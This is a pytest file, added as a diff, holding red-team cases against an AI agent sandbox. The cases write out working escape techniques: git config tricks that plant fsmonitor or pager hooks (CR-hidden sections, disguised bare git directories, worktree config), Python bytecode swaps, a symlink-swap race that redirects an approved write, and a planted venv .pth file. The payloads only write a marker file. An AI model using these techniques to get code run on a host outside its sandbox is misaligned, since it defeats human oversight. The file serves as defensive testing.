@@ -1,0 +1,492 @@
+"""Red-team cases, fourth round: attacks by a hostile sandboxed command, judged
+from the host.
+
+Each case runs the attack through ``sandbox exec`` and judges what a host-side
+tool then does with what the command left behind. Each has a control: the same
+bytes written without the sandbox (or the attack weakened) make the judge fire,
+so a pass is not a judge that cannot see. A case whose attack still succeeds is
+``xfail(strict=True)``.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+PY = sys.executable
+SANDBOX = [PY, "-m", "agent_sandbox"]
+
+pytestmark = [
+    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap missing"),
+    pytest.mark.skipif(shutil.which("git") is None, reason="git missing"),
+]
+
+
+def settings_for(tmp: Path, work: Path, **fs: list[str]) -> Path:
+    """srt settings outside the writable root: ``work`` writable, nothing else."""
+    data = {"network": {"allowedDomains": [], "deniedDomains": []},
+            "filesystem": {"denyRead": fs.get("deny_read", []),
+                           "allowWrite": [str(work), *fs.get("allow_write", [])],
+                           "denyWrite": fs.get("deny_write", [])}}
+    path = tmp / "settings.json"
+    path.write_text(json.dumps(data))
+    return path
+
+
+def sandboxed(work: Path, settings: Path, script: str, env: dict | None = None,
+              timeout: float = 60) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([*SANDBOX, "exec", "--settings", str(settings), "--", "sh", "-c",
+                           script], cwd=work, capture_output=True, text=True,
+                          timeout=timeout, env=env)
+
+
+def unsandboxed(work: Path, script: str) -> None:
+    subprocess.run(["sh", "-c", script], cwd=work, check=True, timeout=30)
+
+
+def host_env(home: Path) -> dict[str, str]:
+    """A host user's environment for the judge: a clean home, no system git config."""
+    home.mkdir(exist_ok=True)
+    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
+            "GIT_CONFIG_NOSYSTEM": "1", "LANG": "C"}
+
+
+def host_git(where: Path, home: Path, *args: str, tty: bool = False) -> None:
+    """What a user does on the host later: git in that folder (a terminal when tty)."""
+    cmd = ["git", *args]
+    if tty:
+        cmd = ["script", "-qec", " ".join(cmd), "/dev/null"]
+    subprocess.run(cmd, cwd=where, env=host_env(home), capture_output=True, timeout=30,
+                   stdin=subprocess.DEVNULL)
+
+
+def evil(work: Path, marker: Path) -> str:
+    """Shell that writes a program into the writable root which, run on the host,
+    leaves ``marker``."""
+    return (f"printf '#!/bin/sh\\necho ran > {marker}\\n' > {work}/evil.sh; "
+            f"chmod +x {work}/evil.sh; ")
+
+
+# --- 1. git config: a line break Python sees and git does not -----------------
+
+# The sweep judges a repository made during the run with ``gitmeta.parse_config``,
+# which splits lines with str.splitlines(): a lone CR (or \x0b, \x0c, \x1c-\x1e)
+# ends a line for it but not for git. A comment line that hides a section header
+# after a CR moves the keys below it into a "safe" remote section for the judge;
+# git reads them as [core].
+CR_CONFIG = ("printf '[core]\\n\\trepositoryformatversion = 0\\n#{sep}[remote \"y\"]\\n"
+             "\\tfsmonitor = {work}/evil.sh\\n' > {repo}/.git/config")
+
+
+def _cr_attack(work: Path, repo: str, marker: Path, sep: str = "\\r") -> str:
+    return (evil(work, marker) + f"mkdir -p {repo} && git -C {repo} init -q && "
+            + CR_CONFIG.format(work=work, repo=repo, sep=sep))
+
+
+@pytest.mark.xfail(strict=True, reason="gitmeta.parse_config splits on \\r like "
+                   "str.splitlines(); git does not: fsmonitor passes as a remote key")
+@pytest.mark.parametrize(("repo", "sep"), [("sub", "\\r"), (".", "\\014"), ("a/b", "\\034")])
+def test_new_repo_config_cr_hides_core_section(tmp_path: Path, repo: str, sep: str) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    r = sandboxed(work, settings_for(tmp_path, work), _cr_attack(work, repo, marker, sep))
+    assert r.returncode == 0, r.stderr
+    host_git(work / repo, tmp_path / "home", "status")
+    assert not marker.exists(), "host git status ran the command's fsmonitor"
+
+
+def test_new_repo_config_cr_control(tmp_path: Path) -> None:
+    """Control: written without a sandbox, host git runs it (the judge can fire);
+    and with a plain newline the sweep quarantines the repository."""
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    unsandboxed(work, _cr_attack(work, "sub", marker))
+    host_git(work / "sub", tmp_path / "home", "status")
+    assert marker.exists()
+    marker.unlink()
+    work2 = tmp_path / "work2"
+    work2.mkdir()
+    plain = (evil(work2, marker) + "git init -q sub && printf '[core]\\n\\tfsmonitor = "
+             f"{work2}/evil.sh\\n' > sub/.git/config")
+    r = sandboxed(work2, settings_for(tmp_path, work2), plain)
+    assert r.returncode == 0, r.stderr
+    host_git(work2 / "sub", tmp_path / "home", "status")
+    assert not marker.exists()
+
+
+# --- 2. a folder git takes for a git directory, not recognised as one ---------
+
+# ``bwrap._protected_entries`` recognises a bare git directory by HEAD (a file),
+# objects/ and refs/ (folders), all by lstat. git's is_git_directory() follows
+# symlinks (access()) and takes objects/ and refs/ from ``commondir`` when that
+# file exists. Either form escapes the sweep, and host git run in that folder
+# reads its config (core.pager on a terminal).
+BARE_FORMS = {
+    "objects-link": ("mkdir -p src/refs .store/objects && ln -s ../.store/objects src/objects"
+                     " && echo 'ref: refs/heads/main' > src/HEAD && "
+                     "printf '[core]\\n\\tpager = {work}/evil.sh\\n' > src/config"),
+    "commondir": ("mkdir -p src common/objects common/refs && "
+                  "echo 'ref: refs/heads/main' > src/HEAD && echo ../common > src/commondir && "
+                  "printf '[core]\\n\\tpager = {work}/evil.sh\\n' > common/config"),
+    "head-link": ("mkdir -p src/refs/heads src/objects && ln -s refs/heads/main src/HEAD && "
+                  "printf '[core]\\n\\tpager = {work}/evil.sh\\n' > src/config"),
+    "plain": ("mkdir -p src/refs src/objects && echo 'ref: refs/heads/main' > src/HEAD && "
+              "printf '[core]\\n\\tpager = {work}/evil.sh\\n' > src/config"),
+}
+
+
+@pytest.mark.parametrize("form", [
+    pytest.param("objects-link", marks=pytest.mark.xfail(
+        strict=True, reason="objects/ as a symlink: _protected_entries checks kinds by lstat")),
+    pytest.param("commondir", marks=pytest.mark.xfail(
+        strict=True, reason="commondir supplies objects/refs: _protected_entries ignores it")),
+    pytest.param("head-link", marks=pytest.mark.xfail(
+        strict=True, reason="HEAD as a symlink (git accepts one to refs/): lstat kind 'l'")),
+    "plain",
+])
+def test_unrecognised_git_directory(tmp_path: Path, form: str) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    r = sandboxed(work, settings_for(tmp_path, work),
+                  evil(work, marker) + BARE_FORMS[form].format(work=work))
+    assert r.returncode == 0, r.stderr
+    host_git(work / "src", tmp_path / "home", "branch", tty=True)
+    assert not marker.exists(), "host git in the folder ran the command's pager"
+
+
+@pytest.mark.parametrize("form", sorted(BARE_FORMS))
+def test_unrecognised_git_directory_control(tmp_path: Path, form: str) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    unsandboxed(work, evil(work, marker) + BARE_FORMS[form].format(work=work))
+    host_git(work / "src", tmp_path / "home", "branch", tty=True)
+    assert marker.exists()
+
+
+# --- 3. a linked worktree's config.worktree that did not exist ----------------
+
+# ``gitmeta.protect_git_dir`` keeps a worktree's config.worktree read-only only
+# when it exists, and ``sweep._new_inside`` skips everything under worktrees/.
+# With extensions.worktreeConfig on (``git sparse-checkout init`` sets it), git
+# reads .git/worktrees/NAME/config.worktree for that worktree.
+def _worktree_repo(work: Path, home: Path) -> None:
+    env = host_env(home)
+    for cmd in (["git", "init", "-q", "repo"],
+                ["git", "-C", "repo", "-c", "user.name=u", "-c", "user.email=u@x",
+                 "commit", "-q", "--allow-empty", "-m", "i"],
+                ["git", "-C", "repo", "worktree", "add", "-q", "../wt"],
+                ["git", "-C", "repo", "config", "extensions.worktreeConfig", "true"]):
+        subprocess.run(cmd, cwd=work, env=env, check=True, capture_output=True)
+
+
+def _worktree_attack(work: Path, marker: Path) -> str:
+    return (evil(work, marker) + "printf '[core]\\n\\tfsmonitor = "
+            f"{work}/evil.sh\\n' > repo/.git/worktrees/wt/config.worktree")
+
+
+@pytest.mark.xfail(strict=True, reason="protect_git_dir protects a worktree's "
+                   "config.worktree only when it exists; the sweep skips worktrees/")
+def test_linked_worktree_config_worktree(tmp_path: Path) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    _worktree_repo(work, tmp_path / "home")
+    r = sandboxed(work, settings_for(tmp_path, work), _worktree_attack(work, marker))
+    assert r.returncode == 0, r.stderr
+    host_git(work / "wt", tmp_path / "home", "status")
+    assert not marker.exists(), "host git status in the worktree ran the command's fsmonitor"
+
+
+def test_linked_worktree_config_worktree_control(tmp_path: Path) -> None:
+    """Control: written without the sandbox, git runs it; and the main worktree's
+    config.worktree, written in the sandbox, is quarantined."""
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "ran"
+    _worktree_repo(work, tmp_path / "home")
+    unsandboxed(work, _worktree_attack(work, marker))
+    host_git(work / "wt", tmp_path / "home", "status")
+    assert marker.exists()
+    marker.unlink()
+    (work / "repo/.git/worktrees/wt/config.worktree").unlink()
+    r = sandboxed(work, settings_for(tmp_path, work), evil(work, marker) + "printf "
+                  f"'[core]\\n\\tfsmonitor = {work}/evil.sh\\n' > repo/.git/config.worktree")
+    assert r.returncode == 0, r.stderr
+    host_git(work / "repo", tmp_path / "home", "status")
+    assert not marker.exists()
+
+
+# --- 4. bytecode Python runs instead of the source beside it -------------------
+
+# The sweep removes a __pycache__ file whose (device, inode) changed during the
+# run. Rewriting the existing file in place keeps its identity; a sourceless
+# ``NAME.pyc`` beside a script (importable when no NAME.py is there, and hidden
+# from ``git status`` by the usual ``*.pyc`` ignore) is outside __pycache__.
+PYC_WRITER = """
+import importlib._bootstrap_external as be, importlib.util, os, sys
+mode, marker = sys.argv[1], sys.argv[2]
+payload = "open(%r, 'w').write('ran')\\nX = 1\\n" % marker
+if mode == "beside":
+    code = compile(payload + "from _json import *\\n", "json.py", "exec")
+    open("json.pyc", "wb").write(be._code_to_timestamp_pyc(code, 0, 0))
+    sys.exit(0)
+st = os.stat("mod.py")
+data = be._code_to_timestamp_pyc(compile(payload, "mod.py", "exec"), st.st_mtime, st.st_size)
+path = importlib.util.cache_from_source("mod.py")
+if mode == "inplace":
+    with open(path, "r+b") as fh:
+        fh.write(data)
+        fh.truncate()
+    sys.exit(0)
+if mode == "replace":  # a new inode, renamed over the old name
+    with open(path + ".new", "wb") as fh:
+        fh.write(data)
+    os.rename(path + ".new", path)
+    sys.exit(0)
+# reuse: unlink, then create until the file system hands out the freed inode again
+old = os.stat(path).st_ino
+os.unlink(path)
+held = []
+for i in range(500):
+    with open(path, "wb") as fh:
+        fh.write(data)
+    if os.stat(path).st_ino == old:
+        break
+    held.append("%s.%d" % (path, i))
+    os.rename(path, held[-1])
+for h in held:
+    os.unlink(h)
+"""
+
+
+def _py_env() -> dict[str, str]:
+    env = dict(os.environ)
+    env.pop("PYTHONDONTWRITEBYTECODE", None)
+    return env
+
+
+def _pyc_setup(tmp_path: Path) -> tuple[Path, Path, Path]:
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "mod.py").write_text("X = 1\n")
+    (work / "run.py").write_text("import json\nimport mod\n")
+    (work / ".gitignore").write_text("*.pyc\n__pycache__/\n")
+    subprocess.run([PY, "run.py"], cwd=work, env=_py_env(), check=True)  # the cache
+    writer = tmp_path / "writer.py"
+    writer.write_text(PYC_WRITER)
+    return work, writer, tmp_path / "ran"
+
+
+def _pyc_judge(work: Path) -> None:
+    subprocess.run([PY, "run.py"], cwd=work, env=_py_env(), capture_output=True, timeout=30)
+
+
+@pytest.mark.parametrize("mode", [
+    pytest.param("inplace", marks=pytest.mark.xfail(
+        strict=True, reason="sweep.find_new judges __pycache__ files by (dev, inode) only")),
+    pytest.param("beside", marks=pytest.mark.xfail(
+        strict=True, reason="_protected_entries treats only .pyc below __pycache__/ as bytecode")),
+    pytest.param("reuse", marks=pytest.mark.xfail(
+        strict=True, reason="a freed inode is handed out again: (dev, inode) is no identity")),
+    "replace",
+])
+def test_bytecode_written_in_the_run(tmp_path: Path, mode: str) -> None:
+    work, writer, marker = _pyc_setup(tmp_path)
+    r = subprocess.run([*SANDBOX, "exec", "--settings", str(settings_for(tmp_path, work)),
+                        "--", PY, str(writer), mode, str(marker)], cwd=work,
+                       capture_output=True, text=True, timeout=60)
+    assert r.returncode == 0, r.stderr
+    _pyc_judge(work)
+    assert not marker.exists(), "host python ran bytecode the command wrote"
+
+
+@pytest.mark.parametrize("mode", ["inplace", "beside", "reuse", "replace"])
+def test_bytecode_written_in_the_run_control(tmp_path: Path, mode: str) -> None:
+    work, writer, marker = _pyc_setup(tmp_path)
+    subprocess.run([PY, str(writer), mode, str(marker)], cwd=work, check=True)
+    _pyc_judge(work)
+    assert marker.exists()
+
+
+# --- 5. an approved file write, its folder swapped for a link while it runs ----
+
+# ``queue.runner.apply_write`` (run on the host by the executor) resolves the
+# approved path once, checks it against the protected set, then opens and
+# replaces it by path. A sandboxed command that keeps exchanging the approved
+# folder with a link (renameat2 RENAME_EXCHANGE) gets the approved bytes
+# written wherever the link points: here the repository's .git/config.
+FLIPPER = """
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+os.chdir(sys.argv[1])
+os.symlink("../.git", "src/y")
+open("ready", "w").close()
+end = time.time() + float(sys.argv[2])
+while time.time() < end and not os.path.exists("stop"):
+    libc.syscall(316, -100, b"src/x", -100, b"src/y", 2)  # x86_64 renameat2, EXCHANGE
+"""
+PAYLOAD = "[core]\n\tfsmonitor = echo pwned\n"
+
+
+def _write_request(repo: Path) -> dict:
+    return {"tool": "Write", "cwd": str(repo), "kind": "write",
+            "params": {"file_path": "src/x/config", "content": PAYLOAD}}
+
+
+def _repo_for_write(tmp_path: Path) -> Path:
+    repo = tmp_path / "repo"
+    (repo / "src/x").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(repo)], check=True, env=host_env(tmp_path / "h"))
+    return repo
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="syscall number of renameat2")
+@pytest.mark.xfail(strict=True, reason="runner.apply_write checks a resolved path, then "
+                   "opens and renames by path: a swapped folder redirects the write")
+def test_approved_write_folder_swapped(tmp_path: Path) -> None:
+    from agent_sandbox.queue.runner import apply_write
+
+    repo = _repo_for_write(tmp_path)
+    flipper = tmp_path / "flip.py"
+    flipper.write_text(FLIPPER)
+    proc = subprocess.Popen([*SANDBOX, "exec", "--settings",
+                             str(settings_for(tmp_path, repo)), "--", PY, str(flipper),
+                             str(repo), "8"], cwd=repo, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 20
+        while not (repo / "ready").exists():
+            assert time.monotonic() < deadline and proc.poll() is None, "flipper did not start"
+            time.sleep(0.02)
+        end = time.monotonic() + 5
+        while time.monotonic() < end and "fsmonitor" not in (repo / ".git/config").read_text():
+            with contextlib.suppress(OSError):
+                apply_write(str(repo), _write_request(repo))
+    finally:
+        (repo / "stop").touch()
+        proc.wait(timeout=30)
+    assert "fsmonitor" not in (repo / ".git/config").read_text(), \
+        "the approved write to src/x/config landed in .git/config"
+
+
+def test_approved_write_folder_swapped_control(tmp_path: Path) -> None:
+    """Control: a link in place before the write is refused (the check works when
+    nothing moves), and the judge sees the payload when it is in .git/config."""
+    from agent_sandbox.queue.runner import apply_write
+
+    repo = _repo_for_write(tmp_path)
+    (repo / "src/x").rmdir()
+    (repo / "src/x").symlink_to("../.git")
+    r = apply_write(str(repo), _write_request(repo))
+    assert r["status"] == "refused"
+    assert "fsmonitor" not in (repo / ".git/config").read_text()
+    (repo / ".git/config").write_text(PAYLOAD)
+    assert "fsmonitor" in (repo / ".git/config").read_text()
+
+
+# --- 6. a project virtualenv: start-up code for every use of its interpreter ---
+
+# A repository's own ``.venv`` lies in the writable root and nothing of it is in
+# the protected set: a ``.pth`` file in its site-packages runs whenever that
+# interpreter starts on the host (an editor's Python extension starts it on its
+# own when the folder is opened; ``source .venv/bin/activate`` is shell code).
+def _venv(tmp_path: Path) -> tuple[Path, Path]:
+    work = tmp_path / "work"
+    work.mkdir()
+    subprocess.run([PY, "-m", "venv", "--without-pip", str(work / ".venv")], check=True,
+                   timeout=60)
+    site = next((work / ".venv/lib").glob("python3*/site-packages"))
+    return work, site
+
+
+def _pth(site: Path, marker: Path) -> str:
+    return f"echo \"import os; open('{marker}', 'w').close()\" > {site}/zz-rt.pth"
+
+
+@pytest.mark.xfail(strict=True, reason="a repository's .venv (site-packages .pth, "
+                   "bin/activate) is not in protected.ANY_DEPTH")
+def test_project_venv_pth(tmp_path: Path) -> None:
+    work, site = _venv(tmp_path)
+    marker = tmp_path / "ran"
+    r = sandboxed(work, settings_for(tmp_path, work), _pth(site, marker))
+    assert r.returncode == 0, r.stderr
+    subprocess.run([str(work / ".venv/bin/python"), "-c", "pass"], timeout=30)
+    assert not marker.exists(), "the project's interpreter ran a .pth the command wrote"
+
+
+def test_project_venv_pth_control(tmp_path: Path) -> None:
+    work, site = _venv(tmp_path)
+    marker = tmp_path / "ran"
+    unsandboxed(work, _pth(site, marker))
+    subprocess.run([str(work / ".venv/bin/python"), "-c", "pass"], timeout=30)
+    assert marker.exists()
+
+
+# --- 7. sockets and raw networking from inside (blocked) -----------------------
+
+PROBE = """
+import socket, sys
+out = []
+for fam, kind in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW),
+                  (socket.AF_PACKET, socket.SOCK_RAW)):
+    try:
+        s = socket.socket(fam, kind)
+        if fam == socket.AF_UNIX:
+            s.connect(sys.argv[1].encode().replace(b"@", b"\\0", 1))
+        out.append("open %d" % fam)
+    except OSError:
+        pass
+for addr in sys.argv[2:]:
+    host, port = addr.rsplit(":", 1)
+    try:
+        socket.create_connection((host.strip("[]"), int(port)), 1)
+        out.append("connected " + addr)
+    except OSError:
+        pass
+print(" ".join(out))
+"""
+
+
+def test_host_abstract_socket_and_loopback(tmp_path: Path) -> None:
+    import socket
+
+    work = tmp_path / "work"
+    work.mkdir()
+    name = "@rt4-" + os.urandom(4).hex()
+    ab = socket.socket(socket.AF_UNIX)
+    ab.bind(name.replace("@", "\0", 1))
+    ab.listen(4)
+    tcp = socket.socket()
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(4)
+    tcp6 = socket.socket(socket.AF_INET6)
+    tcp6.bind(("::1", 0))
+    tcp6.listen(4)
+    targets = [name, f"127.0.0.1:{tcp.getsockname()[1]}", f"[::1]:{tcp6.getsockname()[1]}"]
+    try:
+        probe = tmp_path / "probe.py"
+        probe.write_text(PROBE)
+        # control: the probe itself reaches all three from the host
+        host = subprocess.run([PY, str(probe), *targets], capture_output=True, text=True,
+                              timeout=30)
+        assert host.stdout.count("connected") == 2 and "open 1" in host.stdout
+        r = subprocess.run([*SANDBOX, "exec", "--settings", str(settings_for(tmp_path, work)),
+                            "--", PY, str(probe), *targets], cwd=work, capture_output=True,
+                           text=True, timeout=60)
+        assert r.returncode == 0, r.stderr
+        assert r.stdout.strip() == "", r.stdout
+    finally:
+        for s in (ab, tcp, tcp6):
+            s.close()
